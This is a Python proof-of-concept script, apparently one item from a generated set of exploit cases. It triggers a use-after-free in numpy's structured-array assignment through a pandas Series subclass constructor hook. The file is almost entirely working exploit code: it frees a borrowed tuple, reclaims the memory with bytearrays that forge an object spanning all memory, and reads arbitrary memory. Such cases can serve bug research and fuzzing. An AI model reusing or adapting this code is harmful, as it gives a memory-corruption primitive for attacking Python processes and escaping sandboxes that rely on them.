# source: pandas 1.5.3 NDFrame._constructor subclassing hook (pandas docs 'Extending pandas: subclassing'), called by Series slicing/arithmetic/abs/round/comparison; numpy 1.24 VOID_setitem reads a structured row's tuple items borrowed
# family: library code calling back into the script from inside a truth test (__bool__, held to the comparison rule): (self.k == 2.0) is not None on a pd.Series subclass runs the subclass's __init__ through _constructor
# goal: __bool__ 'return (self.k == 2.0) is not None' runs script code that frees the row tuple and its object field, reclaimed by a forged bytearray over all memory; reads 16 bytes at another object's address (out-of-bounds memory read)
import numpy as np
import pandas as pd

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class K(pd.Series):
    def __init__(self, data=None, index=None):
        super().__init__(data=data, index=index)
        if len(hold) > 0 and len(keep) == 0:
            boom()

    @property
    def _constructor(self):
        return K


class A:
    def __init__(self, k):
        self.k = k

    def __bool__(self):
        return (self.k == 2.0) is not None


lst = [(A(K([2.0])), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "?"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))
o = object()
r = repr(o)
a = int(r.split("at ")[1][:-1], 16)
print("read at", hex(a), ":", bytes(fake[a:a + 16]).hex(), "type(object) at", hex(addr_of_type(object)))
